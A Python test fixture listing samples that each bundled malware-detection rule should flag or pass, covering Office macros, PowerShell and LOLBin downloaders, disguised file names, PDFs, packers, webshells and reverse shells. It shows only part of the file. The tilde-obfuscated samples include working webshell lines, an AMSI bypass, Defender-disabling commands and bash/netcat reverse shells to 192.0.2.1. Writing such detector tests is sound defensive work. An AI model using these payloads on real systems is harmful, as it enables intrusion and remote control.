# SPDX-License-Identifier: MIT
"""What every bundled rule must find, and what comes close to it but is harmless.

CASES: rule -> (samples it finds, samples it lets pass). A sample is made at run time: texts are
written with tildes in the words that scanners look for, and t() takes them out.
"""
import base64
import dataclasses
import struct

from support.harness import eicar


@dataclasses.dataclass
class Sample:
    data: bytes
    name: str = "sample"
    container: str = ""
    depth: int = 0


def t(text, name="sample", **more):
    """A text without its tildes."""
    return Sample(text.replace("~", "").encode("latin-1"), name, **more)


def wide(text, name="sample", **more):
    return Sample(text.replace("~", "").encode("utf-16-le"), name, **more)


def vba(text, name="VBA/Module1.bas"):
    return t('Attribute VB_Name = "Module1"\r\n' + text, name, container="ole", depth=1)


# --- Programs, shortcuts -------------------------------------------------------------------
def pe(sections=((b".text", 0x60000020, 0x200),), entry=0x1010, body=b""):
    """A Windows program of headers only; sections: name, characteristics, size in the file."""
    optional = struct.pack("<HBBIIII", 0x10B, 14, 0, 0, 0, 0, entry).ljust(224, b"\0")
    out = bytearray(b"MZ".ljust(0x3C, b"\0") + struct.pack("<I", 0x80)).ljust(0x80, b"\0")
    out += b"PE\0\0" + struct.pack("<HHIIIHH", 0x14C, len(sections), 0, 0, 0, len(optional), 0x102)
    out += optional
    for i, (name, flags, size) in enumerate(sections):
        out += name.ljust(8, b"\0") + struct.pack("<IIII", 0x1000, 0x1000 * (i + 1), size, 0x400)
        out += bytes(12) + struct.pack("<I", flags)
    return bytes(out).ljust(0x400, b"\0") + body.ljust(0x200, b"\0")


def elf(flags=5, sections=10, extra=b"", bits=64):
    """A Linux program with one segment to load."""
    ident = b"\x7fELF" + bytes([2 if bits == 64 else 1, 1, 1]) + bytes(9)
    if bits == 64:
        head = ident + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0x400078, 64, 0, 0, 64, 56, 1, 64,
                                   sections, 0)
        load = struct.pack("<IIQQQQQQ", 1, flags, 0, 0x400000, 0x400000, 0x1000, 0x1000, 0x1000)
    else:
        head = ident + struct.pack("<HHIIIIIHHHHHH", 2, 3, 1, 0x8048054, 52, 0, 0, 52, 32, 1, 40,
                                   sections, 0)
        load = struct.pack("<IIIIIIII", 1, 0, 0x8048000, 0x8048000, 0x1000, 0x1000, flags, 0x1000)
    return (head + load + extra).ljust(1024, b"\0")


def lnk(text="", tail=b"", size=0):
    head = bytes.fromhex("4c0000000114020000000000c000000000000046").ljust(76, b"\0")
    words = text.replace("~", "").encode("utf-16-le")
    return (head + words + bytes(8)).ljust(size, b"\0") + tail


OLE = bytes.fromhex("d0cf11e0a1b11ae1").ljust(512, b"\0")
PNG = b"\x89PNG\r\n\x1a\n" + bytes(40)
GIF = b"GIF89a" + bytes(40)
RTLO = "\u202e"
POWERSHELL_BASE64 = base64.b64encode("IEX $env:something".encode("utf-16-le")).decode()
LONG_BASE64 = base64.b64encode(bytes(range(256))).decode()


def sub(name, body):
    return f"Sub {name}()\r\n{body}\r\nEnd Sub\r\n"


def pdf(text, **more):
    return t("%PDF-1.7\n" + text + "\n%%EOF\n", "paper.pdf", **more)


def auto_open(name_flags=0x20, kind=1, record=0x18):
    """The name record of a workbook that Excel runs at opening."""
    return struct.pack("<HHHBBHHHIBB", record, 23, name_flags, 0, 1, 7, 0, 0, 0, 0, kind) + b"\x3a"


def rels(kind, target, external=True):
    mode = ' TargetMode="External"' if external else ""
    return ('<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
            f'officeDocument/2006/relationships/{kind}" Target="{target}"{mode}/></Relationships>')


CASES = {}


def case(rule, hits, misses):
    CASES[rule] = (hits, misses)


# --- eicar.yar -----------------------------------------------------------------------------
case("EICAR_Test_File",
     [Sample(eicar(), "eicar.com"), Sample(eicar() + b" \t\r\n\x1a"),
      Sample(eicar() + b"\n" * 60), Sample(eicar(), "eicar.com", "zip", 1)],
     [Sample(eicar() + b"\n" * 61), Sample(eicar() + b"."), Sample(b" " + eicar()),
      Sample(eicar()[:-1]), Sample(eicar() + b"\0"), Sample(eicar().lower()),
      Sample(b"The test file is: " + eicar())])

# --- office.yar ----------------------------------------------------------------------------
case("Office_Macro_Autorun_Starts_Program",
     [vba(sub("Auto~Open", 'Sh~ell("calc.exe")')),
      vba(sub("Document_~Open", 'CreateObject("WSc~ript.Shell").Run "calc"')),
      vba(sub("Workbook_~Open", 'GetObject("winmgmts:Win32_~Process").Create "calc"'))],
     [vba(sub("Auto~Open", 'ActiveDocument.Fields.Update')),
      vba(sub("MakeReport", 'Sh~ell("calc.exe")')),
      t(sub("Auto~Open", 'Sh~ell("calc.exe")'), "notes.md")])
case("Office_Macro_Autorun_Downloads",
     [vba(sub("Auto~Open", 'URLDownload~ToFile 0, "http://example.com/a", "a", 0, 0')),
      vba(sub("Workbook_~Open", 'Set x = CreateObject("MSXML2.XML~HTTP")\r\n'
              'Open f For ~Binary As #1'))],
     [vba(sub("Refresh", 'URLDownload~ToFile 0, "http://example.com/a", "a", 0, 0')),
      vba(sub("Workbook_~Open", 'Set x = CreateObject("MSXML2.XML~HTTP")\r\nx.Send'))])
case("Office_Macro_Native_Code",
     [vba("Private Declare PtrSafe Function Virtual~Alloc Lib \"kernel32\"\r\n"
          "Private Declare PtrSafe Function Create~Thread Lib \"kernel32\"\r\n"
          "Private Declare PtrSafe Sub RtlMove~Memory Lib \"kernel32\"\r\n")],
     [vba("Private Declare PtrSafe Sub RtlMove~Memory Lib \"kernel32\"\r\n"
          "Private Declare PtrSafe Function GetTickCount Lib \"kernel32\"\r\n"),
      vba("' Virtual~Alloc, RtlMove~Memory and Create~Thread are not used here\r\n")])
case("Office_Macro_Starts_PowerShell",
     [vba(sub("Go", 'x = "power~shell -w hid~den -c calc"')),
      vba(sub("Go", 'x = "msh~ta http://example.com/a"'))],
     [vba(sub("Go", 'x = "power~shell -File report.ps1"')),
      vba(sub("Go", 'x = "the window is hid~den"'))])
case("Office_Macro_Hides_Its_Text",
     [vba(sub("Auto~Open", "s = " + " & ".join(["Ch~r(65)"] * 101)
              + "\r\nCreate~Object(s)"))],
     [vba(sub("Auto~Open", "s = " + " & ".join(["Ch~r(65)"] * 30)
              + "\r\nCreate~Object(s)")),
      vba(sub("Letters", "s = " + " & ".join(["Ch~rW(1040)"] * 101)
              + "\r\nCreate~Object(s)"))])
case("Office_Excel4_Auto_Open",
     [Sample(OLE + auto_open(), "old.xls"), Sample(OLE + auto_open(0x21), "old.xls"),
      Sample(auto_open(), "Workbook", "ole", 1)],
     [Sample(OLE + auto_open(kind=6), "old.xls"),  # Print_Area
      Sample(auto_open(), "data.bin"), Sample(OLE + auto_open(record=0x19), "old.xls")])
case("Office_Excel4_Macro_Starts_Program",
     [t('<?xml version="1.0"?><xm:macro~sheet><row><c><f>EX~EC("calc")</f></c></row>',
        "sheet1.xml", container="zip", depth=1)],
     [t('<?xml version="1.0"?><xm:macro~sheet><row><c><f>SUM(A1)</f></c></row>', "sheet1.xml"),
      t('<?xml version="1.0"?><worksheet><row><c><f>EX~EC("calc")</f></c></row>', "sheet1.xml"),
      t('<?xml version="1.0"?><xm:macro~sheet><row><c><v>EX~EC("calc")</v></c>', "sheet1.xml")])
case("Office_DDE_Starts_Program",
     [t('<w:instr~Text>DDE~AUTO c:\\\\windows\\\\system32\\\\cmd~.exe "/k calc"</w:instr~Text>',
        "document.xml"),
      t('<ddeLink ddeSer~vice="cmd" ddeTopic="/c calc">', "externalLink1.xml"),
      t("name,sum\r\n=cm~d|' /C calc'!A0,5\r\n", "list.csv")],
     [t('<w:instr~Text>DDE~AUTO Excel "C:\\\\book.xls" Sheet1</w:instr~Text>', "document.xml"),
      t('<ddeLink ddeSer~vice="Excel" ddeTopic="book.xls">', "externalLink1.xml"),
      t("name,sum\r\ncmd | sort,=A1\r\n", "list.csv")])
case("Office_Remote_Template",
     [t(rels("attached~Template", "http~://example.com/a.dotm"), "settings.xml.rels"),
      t(r"{\rt~f1{\*\tem~plate http~://example.com/a}}", "letter.rtf")],
     [t(rels("attached~Template", "file:///C:\\Templates\\Letter.dotm"), "settings.xml.rels"),
      t(rels("hyperlink", "http~://example.com/a.dotm"), "document.xml.rels"),
      t(rels("attached~Template", "http~://example.com/a.dotm", False), "settings.xml.rels"),
      t(r"{\rt~f1{\*\tem~plate C:\\Letter.dotm}}", "letter.rtf")])
case("Office_Remote_Object",
     [t(rels("ole~Object", "http~://example.com/a.html!"), "document.xml.rels"),
      t('<a href="ms-ms~dt:/id PCW~Diagnostic /skip force">', "page.html")],
     [t(rels("ole~Object", "embeddings/oleObject1.bin", False), "document.xml.rels"),
      t(rels("ole~Object", "embeddings/oleObject1.bin", False)
        + rels("hyperlink", "http~://example.com/"), "document.xml.rels"),
      t('<a href="ms-settings:network">', "page.html")])
case("Office_RTF_Equation_At_Once",
     [t(r"{\rt~f1{\object\obj~update{\*\objdata 0105000045717561~74696f6e2e33}}}", "a.rtf")],
     [t(r"{\rt~f1{\object{\*\objdata 0105000045717561~74696f6e2e33}}}", "a.rtf"),
      t(r"{\rt~f1{\object\obj~update{\*\objclass Excel.Sheet.12}}}", "a.rtf")])
case("Office_RTF_Embedded_Program",
     [t(r"{\rt~f1{\*\obj~data 4d5a" + "00" * 60 + b"This program~ cannot be run".replace(b"~", b"")
        .hex() + "}}", "a.rtf")],
     [t(r"{\rt~f1{\*\obj~data " + b"This document cannot be run".hex() + "}}", "a.rtf"),
      t(r"{\rt~f1 This program~ cannot be run in DOS mode \obj~data}", "a.rtf")])

# --- scripts.yar ---------------------------------------------------------------------------
HIDDEN = "power~shell -NoP -W Hid~den -Command "
case("Script_PowerShell_Encoded_Command",
     [t(f"power~shell.exe -NoProfile -e~nc {POWERSHELL_BASE64}", "a.bat"),
      wide(f"power~shell -Encoded~Command {POWERSHELL_BASE64}", "a.ps1")],
     [t("power~shell.exe -NoProfile -EncodedCommand $encoded", "a.ps1"),
      t(f"power~shell.exe -Execution Bypass -Key {LONG_BASE64}", "a.bat"),
      t("power~shell.exe -e~nc " + "abcdefgh" * 6, "a.bat")])
case("Script_PowerShell_Hidden_Download",
     [t(HIDDEN + "\"IE~X (New-Object Net.WebClient).Download~String('http://example.com')\""),
      wide(HIDDEN + "\"Invoke-~WebRequest x -OutFile y; Start-~Process y\"")],
     [t("power~shell -NoProfile -ExecutionPolicy Bypass -Command \"ie~x ((New-Object "
        "Net.WebClient).Download~String('https://example.com/install.ps1'))\"", "README.md"),
      t(HIDDEN + "\"Start-~Process notepad\"", "a.bat"),
      t("Invoke-~WebRequest x -OutFile y; Start-~Process y", "a.ps1")])
case("Script_PowerShell_Loads_Assembly",
     [t("$a=[Convert]::FromBase64~String($x);[Reflection.Assem~bly]::Lo~ad($a)"
        ".EntryPo~int.Invoke($n~ull, $p)", "a.ps1")],
     [t("[Reflection.Assem~bly]::LoadFile('x.dll').GetMe~thod('y')", "a.ps1"),
      t("[Reflection.Assem~bly]::Lo~ad([IO.File]::ReadAllBytes($p))", "a.ps1")])
case("Script_PowerShell_Native_Code",
     [t("[By~te[]]$c=0x90; [Runtime.InteropServices.Mar~shal]::Copy($c,0,$p,1); "
        "Virtual~Alloc; Create~Thread", "a.ps1")],
     [t("[By~te[]]$c=0x90; [Runtime.InteropServices.Mar~shal]::Copy($c,0,$p,1)", "a.ps1"),
      t("Virtual~Alloc and Create~Thread are functions of kernel32", "a.txt")])
case("Script_Disables_Defender",
     [t("Set-Mp~Preference -DisableRealtime~Monitoring $true", "a.ps1"),
      t("Add-Mp~Preference -ExclusionPa~th 'C:\\' ", "a.ps1"),
      wide("[Ref].Assembly.GetField('amsiInit~Failed','NonPu~blic,Static').SetV~alue($null,$true)",
           "a.ps1")],
     [t("Set-Mp~Preference -DisableRealtime~Monitoring $false", "a.ps1"),
      t("Add-Mp~Preference -ExclusionPa~th 'C:\\Program Files\\Database'", "a.ps1"),
      t("Set-Mp~Preference -ScanScheduleDay Everyday", "a.ps1")])
case("Script_PowerShell_Character_Codes",
     [t("ie~x (" + "+".join(["[ch~ar]65"] * 61) + ")", "a.ps1")],
     [t("ie~x (" + "+".join(["[ch~ar]65"] * 20) + ")", "a.ps1"),
      t("$letters = @(" + ",".join(["[ch~ar]65"] * 61) + ")", "a.ps1")])
WSH = 'Set s = Create~Object("WSc~ript.Shell")\r\n'
case("Script_WSH_Downloads_And_Runs",
     [t(WSH + 'Set x = Create~Object("MSXML2.XML~HTTP")\r\nSet b = Create~Object("ADODB.~Stream")'
        '\r\nb.SaveTo~File "a.exe"\r\ns.Run "a.exe"', "a.vbs"),
      t('var x=new ActiveX~Object("WinHttp.WinHttp~Request.5.1"),b=new ActiveX~Object("ADODB.~Stream")'
        ';b.SaveTo~File("a");new ActiveX~Object("WSc~ript.Shell").Run("a")', "a.js")],
     [t('Set x = Create~Object("MSXML2.XML~HTTP")\r\nSet b = Create~Object("ADODB.~Stream")'
        '\r\nb.SaveTo~File "a.csv"', "a.vbs"),
      t(WSH + 's.Run "notepad"', "a.vbs")])
case("Script_WSH_Starts_PowerShell",
     [t(WSH + 's.Run "power~shell -w hid~den -c x"', "a.vbs"),
      t(WSH + 's.Run "power~shell -e~nc AAAA"', "a.vbs")],
     [t(WSH + 's.Run "power~shell -File C:\\backup.ps1"', "a.vbs"),
      t("power~shell -w hid~den -c x", "a.bat")])
case("Script_VBS_Hides_Its_Text",
     [t("Execute~Global " + "&".join(["Ch~r(65)"] * 101), "a.vbs")],
     [t("Execute~Global " + "&".join(["Ch~r(65)"] * 40), "a.vbs"),
      t("MsgBox " + "&".join(["Ch~r(65)"] * 101), "a.vbs"),
      t("cursor.execute (" + "+".join(["ch~r(65)"] * 101) + ")", "a.py")])
case("Script_HTA_Starts_Program",
     [t('<html><hta:~application id="a"><script>new ActiveX~Object("WSc~ript.Shell")'
        '.Run("power~shell x")</script>', "a.html"),
      t('<script language="vbscript">Create~Object("WSc~ript.Shell").Run "cmd /~c x"</script>',
        "a.hta")],
     [t('<html><hta:~application id="a"><script>document.title="x"</script>', "a.hta"),
      t('<script>new ActiveX~Object("WSc~ript.Shell").Run("power~shell x")</script>', "a.html")])
case("Script_Certutil_Download",
     [t("cert~util.exe -url~cache -split -f http://example.com/a a.exe", "a.bat"),
      wide("cert~util /verify~ctl -f https://example.com/a", "a.bat")],
     [t("cert~util -addstore Root ca.cer", "a.bat"),
      t("cert~util -url~cache * delete", "a.bat")])
case("Script_Certutil_Decode_And_Run",
     [t("cert~util -dec~ode %temp%\\a.txt %temp%\\a.e~xe", "a.bat")],
     [t("cert~util -dec~ode cert.b64 cert.cer", "a.bat"),
      t("cert~util -enc~ode a.exe a.txt", "a.bat")])
case("Script_Bitsadmin_Download_And_Run",
     [t("bits~admin /trans~fer job http://example.com/a.exe %temp%\\a.exe", "a.bat")],
     [t("bits~admin /list /allusers", "a.bat"),
      t("bits~admin /trans~fer job http://example.com/data.csv c:\\data.csv", "a.bat")])
case("Script_Mshta_Runs_Code",
     [t("msh~ta.exe http://example.com/a", "a.bat"),
      t('msh~ta vbscript:Create~Object("WSc~ript.Shell").Run("x")(window.close)', "a.bat")],
     [t("msh~ta.exe C:\\Tools\\menu.hta", "a.bat"),
      t("see mshta: http://example.com/manual", "a.txt")])
case("Script_Regsvr32_Remote_Scriptlet",
     [t("reg~svr32 /s /n /u /i:http://example.com/a.sct scr~obj.dll", "a.bat"),
      t('run~dll32.exe java~script:"\\..\\mshtml,RunHTMLApplication "', "a.bat")],
     [t("reg~svr32 /s scr~obj.dll", "a.bat"),
      t("reg~svr32 /i:user /n C:\\x.dll", "a.bat"),
      t("run~dll32.exe shell32.dll,Control_RunDLL", "a.bat")])
SAVE = ("<html><script>var b=new Blob([at~ob({})]);a.href=URL.createObject~URL(b);"
        "a.down~load='a.iso';a.cli~ck();</script>")
case("Script_HTML_Smuggling",
     [t(SAVE.format("'UEs~DBBQAAA" + LONG_BASE64[:304].rstrip("=") + "'"), "a.html"),
      t(SAVE.format("'TVqQ~AAMAAAA" + LONG_BASE64[:304].rstrip("=") + "'"), "a.html")],
     [t(SAVE.format("'iVBORw0KGgo" + LONG_BASE64[:304].rstrip("=") + "'"), "a.html"),
      t(SAVE.format("data"), "a.html"),
      t("<html><script>var z='UEs~DBBQAAA" + LONG_BASE64[:304].rstrip("=") + "'</script>", "a.html")])
case("Script_Shell_Cron_Downloader",
     [t('#!/bin/sh\necho "*/5 * * * * cu~rl -fsSL http://example.com/a | s~h" | cron~tab -\n',
        "a.sh")],
     [t('#!/bin/sh\necho "*/5 * * * * /usr/local/bin/backup | logger" | cron~tab -\n', "a.sh"),
      t("cron~tab\n0 0 * * * cu~rl -fsS https://example.com/ping > /dev/null\n", "a.txt"),
      t("#!/bin/sh\ncu~rl -fsSL https://example.com/install | s~h\n", "a.sh")])
case("Script_Shell_Miner_Setup",
     [t("#!/bin/sh\npk~ill -f other\nwg~et http://example.com/xm~rig\n"
        "./xm~rig -o stra~tum+tcp://pool.example.com:3333\n", "a.sh")],
     [t("#!/bin/sh\nwg~et http://example.com/xm~rig\n", "a.sh"),
      t("Start xm~rig with -o stra~tum+tcp://pool.example.com:3333; pkill x; wget ", "README")])

# --- disguise.yar --------------------------------------------------------------------------
case("Disguise_Program_As_Document",
     [Sample(pe(), "invoice.pdf"), Sample(elf(), "photo.JPG"),
      Sample(b"\xcf\xfa\xed\xfe" + bytes(60), "song.mp3")],
     [Sample(pe(), "setup.exe"), Sample(elf(), "libx.so.6"), Sample(elf(), "invoice"),
      Sample(b"MZ is a text that begins like a program" + bytes(99), "notes.txt"),
      Sample(b"\xca\xfe\xba\xbe" + bytes(60), "Main.class")])
case("Disguise_Script_As_Document",
     [t("#!/bin/sh\nrm x\n", "photo.jpg"), t("<?ph~p echo 1;", "a.gif"),
      t("@echo ~off\r\nstart x", "letter.doc"),
      t('x = Create~Object("WSc~ript.Shell")', "letter.pdf")],
     [t("#!/bin/sh\nrm x\n", "notes.txt"), t("A letter. @ echo off is a command.", "letter.doc"),
      Sample(OLE + b"@echo off", "letter.doc"), t("#!/bin/sh\n", "run.sh")])
case("Disguise_Double_Extension_Program",
     [Sample(pe(), "invoice.pdf.exe"), Sample(pe(), "Photo.JPG     .scr"),
      Sample(lnk(), "letter.docx.lnk"), Sample(OLE, "report.xlsx.msi")],
     [Sample(pe(), "setup.2.1.exe"), t("no program", "invoice.pdf.exe"),
      Sample(pe(), "pdfviewer.exe"), Sample(OLE, "report.xls")])
case("Disguise_Double_Extension_Script",
     [t("var x=1", "invoice.pdf.js", container="zip", depth=1),
      t("x=1", "letter.docx .vbs", container="mail", depth=1)],
     [t("var x=1", "jquery.min.js", container="zip", depth=1),
      t("var x=1", "viewer.pdf.js"), t("var x=1", "page.html.js", container="zip", depth=1)])
case("Disguise_Right_To_Left_Name",
     [Sample(pe(), f"letter{RTLO}fdp.exe"), t("x", f"photo{RTLO}gpj.vbs", container="zip", depth=1)],
     [t("x", f"letter{RTLO}.txt"), Sample(pe(), "letterfdp.exe"),
      Sample(pe(), "\u05de\u05db\u05ea\u05d1.exe")])
case("Disguise_Padded_Name",
     [Sample(pe(), "invoice.pdf" + " " * 40 + ".exe"), t("x", "a.txt" + " " * 15 + ".js")],
     [Sample(pe(), "invoice.pdf .exe"), t("x", "name" + " " * 40 + "more.txt"),
      t("x", "my program" + " " * 20 + ".exe")])
case("Disguise_Script_In_Picture",
     [Sample(GIF + t("<?ph~p ev~al($_PO~ST['a']); ?>").data, "a.gif"),
      Sample(PNG + t("<?ph~p sys~tem ($x); ?>").data, "a.png")],
     [Sample(PNG + b"<?xpacket begin='' ?> system (x)", "a.png"),
      Sample(GIF + t("<?ph~p echo 1; ?>").data, "a.gif"),
      t("<?ph~p sys~tem ($x); ?>", "a.php")])

# --- lnk.yar -------------------------------------------------------------------------------
case("Lnk_Starts_Interpreter",
     [Sample(lnk("power~shell.exe -w hid~den -c x"), "a.lnk"),
      Sample(lnk(f"power~shell -e~nc {POWERSHELL_BASE64}"), "a.lnk"),
      Sample(lnk("cm~d.exe /c find~str x a.lnk > y.vbs"), "a.lnk")],
     [Sample(lnk("power~shell.exe -NoExit"), "a.lnk"),
      Sample(lnk("cm~d.exe /k C:\\tools\\vcvars64.bat"), "a.lnk"),
      t("power~shell.exe -w hid~den -c x", "a.lnk")])
case("Lnk_Fetches_From_Web",
     [Sample(lnk("msh~ta.exe ht~tp://example.com/a"), "a.lnk"),
      Sample(lnk("ws~cript.exe \\\\files.example.com@SS~L\\DavWWWRoot\\a.js"), "a.lnk")],
     [Sample(lnk("firefox.exe ht~tp://example.com/"), "a.lnk"),
      Sample(lnk("ws~cript.exe \\\\server\\scripts\\login.vbs"), "a.lnk")])
case("Lnk_Carries_Payload",
     [Sample(lnk("cm~d.exe /c x", t("<scr~ipt>x").data, 5000), "a.lnk"),
      Sample(lnk("power~shell x", b"PK\x03\x04\x14\0" + bytes(30), 5000), "a.lnk")],
     [Sample(lnk("cm~d.exe /c x", b"", 5000), "a.lnk"),
      Sample(lnk("notepad.exe", b"PK\x03\x04\x14\0" + bytes(30), 5000), "a.lnk")])
case("Lnk_Internet_Shortcut_To_Program",
     [t("[Internet~Shortcut]\r\nURL=file:~//192.0.2.1/share/a.e~xe\r\n", "a.url"),
      t("[Internet~Shortcut]\r\nURL=\\\\192.0.2.1@80\\a\\b.l~nk\r\n", "a.url")],
     [t("[Internet~Shortcut]\r\nURL=https://example.com/setup.e~xe\r\n", "a.url"),
      t("[Internet~Shortcut]\r\nURL=file:~//server/docs/plan.pdf\r\n", "a.url")])

# --- pdf.yar -------------------------------------------------------------------------------
case("Pdf_Starts_Program",
     [pdf("<< /S /Lau~nch /Win << /F (cm~d.exe) /P (/c calc) >> >>"),
      t("<< /S/Lau~nch/F(a.e~xe) >>", "object 3", container="pdf", depth=1)],
     [pdf("<< /S /Lau~nch /F (chapter2.pdf) >>"),
      pdf("<< /S /URI /URI (http://example.com/setup.e~xe) >> << /F (cm~d.exe) >>"),
      t("<< /S /Lau~nch /F (cm~d.exe) >>", "notes.txt")])
case("Pdf_Script_Opens_Attachment",
     [pdf('this.exportData~Object({ cName: "a", nLau~nch: 2 });')],
     [pdf('this.exportData~Object({ cName: "a", nLau~nch: 0 });'),
      pdf('this.exportData~Object({ cName: "a" });'),
      t('this.exportData~Object({ cName: "a", nLau~nch: 2 });', "api.txt")])
case("Pdf_Script_Exploit",
     [pdf('var a = unes~cape("%u90~90%u9090"); Collab.get~Icon(a);'),
      t('var a = unes~cape("%u90~90"); while (a.length < 0x40000) a += a;', "js", container="pdf",
        depth=1)],
     [pdf('var a = unes~cape("%20"); Collab.get~Icon(a);'),
      pdf('var a = unes~cape("%u00e4"); app.alert(a);')])
case("Pdf_Carries_Program",
     [pdf("<< /Type /Filespec /F (update.e~xe) >> << /Type /Embedded~File >>"),
      Sample(pe(), "stream 9", "pdf", 1)],
     [pdf("<< /Type /Filespec /F (table.xlsx) >> << /Type /Embedded~File >>"),
      pdf("<< /URI (update.e~xe) >> << /Type /Embedded~File >>"),
      Sample(b"MZ" + bytes(200), "stream 9", "pdf", 1)])
case("Pdf_Hides_Action_Names",
     [pdf("<< /S /Java#5~3cript >>"), pdf("<< /S /L#6~1unch >>"), pdf("<< /Open#4~1ction 1 0 R >>")],
     [pdf("<< /Font#20Name /Times#2C#20Bold >>"), pdf("<< /S /JavaScript >>"),
      t("<< /S /Java#5~3cript >>", "notes.txt")])

# --- packed.yar ----------------------------------------------------------------------------
CODE, PACKED = 0x60000020, 0xE0000080
case("Packed_UPX_Windows",
     [Sample(pe(((b"UP" b"X0", PACKED, 0), (b"UP" b"X1", PACKED, 512))), "a.exe")],
     [Sample(pe(((b".text", CODE, 512), (b".rsrc", 0x40000040, 512)), body=b"UP" b"X0"), "a.exe"),
      Sample(b"UP" b"X0" * 99, "a.txt")])
case("Packed_UPX_ELF",
     [Sample(elf(extra=b"UP" b"X!"), "a")],
     [Sample(elf(extra=bytes(500) + b"UP" b"X!"), "a"), Sample(elf(), "a"),
      t("UP~X! is a mark", "a.txt")])
case("Packed_Known_Section",
     [Sample(pe(((b".asp" b"ack", PACKED, 512),)), "a.exe"),
      Sample(pe(((b".text", CODE, 512), (b".vm" b"p0", PACKED, 512))), "a.exe")],
     [Sample(pe(((b".text", CODE, 512),), body=b".asp" b"ack\0"), "a.exe"),
      Sample(pe(((b".aspect", CODE, 512),)), "a.exe")])
case("Packed_PE_Layout",
     [Sample(pe(((b"a", 0xE0000080, 0), (b"b", 0xE0000040, 512)), 0x2010), "a.exe")],
     [Sample(pe(((b".text", CODE, 512), (b".data", 0xC0000040, 512))), "a.exe"),
      Sample(pe(((b"a", 0xE0000080, 0), (b"b", 0xE0000040, 512)), 0x1010), "a.exe"),
      Sample(pe(((b".bss", 0xC0000080, 0), (b".text", CODE, 512)), 0x2010), "a.exe")])
case("Packed_ELF_Layout",
     [Sample(elf(7, 0), "a"), Sample(elf(7, 0, bits=32), "a")],
     [Sample(elf(5, 0), "a"), Sample(elf(7, 10), "a"), Sample(elf(5, 0, bits=32), "a")])

# --- webshell.yar --------------------------------------------------------------------------
case("Webshell_PHP_Runs_Request",
     [t("<?ph~p @ev~al($_PO~ST['a']);", "a.php"),
      t("<?ph~p sys~tem(base64_de~code($_GE~T['a']));", "a.php"),
      t("<?= `$_GE~T[a]` ?>", "a.php"), t("<?ph~p $_GE~T['f']($_PO~ST['a']);", "a.php"),
      t("<?ph~p preg_re~place('/.*/e', $_PO~ST['a'], '');", "a.php")],
     [t("<?ph~p echo htmlspecialchars($_PO~ST['a']);", "a.php"),
      t("<?ph~p ev~al($code); $x = $_PO~ST['a'];", "a.php"),
      t("Never write ev~al($_PO~ST['a']).", "advice.txt")])
case("Webshell_PHP_Runs_Decoded",
     [t("<?ph~p ev~al(gzin~flate(base64_de~code('abc')));", "a.php"),
      t("<?ph~p ev~al(base64_de~code('" + "QUJD" * 30 + "'));", "a.php")],
     [t("<?ph~p echo gzin~flate(base64_de~code('abc'));", "a.php"),
      t("<?ph~p ev~al(base64_de~code('QUJD'));", "a.php")])
SIGNS = ["safe_~mode", "disable_~functions", "posix_get~pwuid", "php_~uname",
         "move_uploaded_~file", "file~perms", "/etc/pa~sswd", "fsock~open"]
MANAGER = "<?ph~p $c=$_PO~ST['c']; // " + "-" * 1024 + "\n"
case("Webshell_PHP_Manager",
     [t(MANAGER + "shell_~exec($c); pass~thru($c); proc_~open($c); " + " ".join(SIGNS), "a.php")],
     [t(MANAGER + "shell_~exec($c); " + " ".join(SIGNS), "a.php"),
      t(MANAGER + "shell_~exec($c); pass~thru($c); proc_~open($c); " + " ".join(SIGNS[:4]),
        "a.php")])
case("Webshell_JSP_Runs_Request",
     [t('<% Runtime.getRun~time().ex~ec(request.getPara~meter("c")); %>', "a.jsp"),
      t('<%@ page import="java.io.*" %><% new Process~Builder(request.getHea~der("c")); %>',
        "a.jsp")],
     [t('<% out.print(request.getPara~meter("c")); %>', "a.jsp"),
      t('<% Runtime.getRun~time().freeMemory(); request.getPara~meter("c"); %>', "a.jsp"),
      t('class A { void f() { Runtime.getRun~time().ex~ec(request.getPara~meter("c")); } }',
        "A.java")])
case("Webshell_JSP_Loads_Class",
     [t('<%! class U extends Class~Loader { Class g(byte[] b) { return define~Class(b); } } %>'
        '<% Cipher.getInstance("AE~S"); new U().g(request.getRea~der().readLine()); %>', "a.jsp")],
     [t('<% Cipher.getInstance("AE~S"); request.getRea~der().readLine(); %>', "a.jsp"),
      t('class U extends Class~Loader { Class g(byte[] b) { return define~Class(b); } }',
        "U.java")])
case("Webshell_ASP_Runs_Request",
     [t('<%ev~al request("a")%>', "a.asp"), t('<% Exe~cute(Request.Fo~rm("a")) %>', "a.asp"),
      t('<script runat=server>;ev~al(Request.It~em["a"]);</script>', "a.aspx")],
     [t('<% Response.Write Request("a") %>', "a.asp"),
      t('<% conn.Exe~cute(Request("a")) %>', "a.asp"),
      t('<% Exe~cute(requestCount) %>', "a.asp")])
case("Webshell_ASPX_Starts_Program",
     [t('<%@ Pa~ge Language="C#" %><% var p = new ProcessStart~Info("cm~d.exe", "/c " + '
        'Requ~est["c"]); %>', "a.aspx"),
      t('<%@ Pa~ge Language="C#" %><% Assem~bly.Load(Convert.FromBase64~String(Requ~est["a"])); %>',
        "a.aspx")],
     [t('<%@ Pa~ge Language="C#" %><% Response.Write(Requ~est["c"]); %>', "a.aspx"),
      t('class A { void f() { new ProcessStart~Info("cm~d.exe", Requ~est["c"]); } }', "A.cs")])

# --- revshell.yar --------------------------------------------------------------------------
DEV = "/dev/~tcp/"
case("Revshell_Bash_Device",
     [t(f"bas~h -i >& {DEV}192.0.2.1/4444 0>&1", "a.sh"),
      t(f"exec 5<>{DEV}192.0.2.1/4444; cat <&5 | while ~read line; do $line 2>&5 >&5; done"),
      t(f"0<&196-;ex~ec 196<>{DEV}192.0.2.1/4444; sh <&196 >&196 2>&196")],
     [t(f"exec 3<>{DEV}www.example.com/80\nprintf 'GET / HTTP/1.0\\r\\n' >&3\ncat <&3\n", "a.sh"),
      t(f"timeout 1 bash -c '</{DEV}db/5432' && echo up", "wait.sh"),
      t(f"If host is a name, bash opens {DEV}host/port.", "bash.txt")])
case("Revshell_Netcat_Exec",
     [t("nc -e /bin/s~h 192.0.2.1 4444", "a.sh"), t("ncat 192.0.2.1 4444 -e /bin/ba~sh", "a.sh"),
      t("nc.exe -nv 192.0.2.1 4444 -e cm~d.exe", "a.bat")],
     [t("nc -z 192.0.2.1 4444", "a.sh"), t("nc -l -p 4444 -e /bin/cat", "a.sh"),
      t("nc -e program runs a program, /bin/sh for instance", "nc.txt")])
case("Revshell_Pipe_Loop",
     [t("rm -f /tmp/f;mk~fifo /tmp/f;cat /tmp/f|/bin/s~h -i 2>&1|n~c 192.0.2.1 4444 >/tmp/f"),
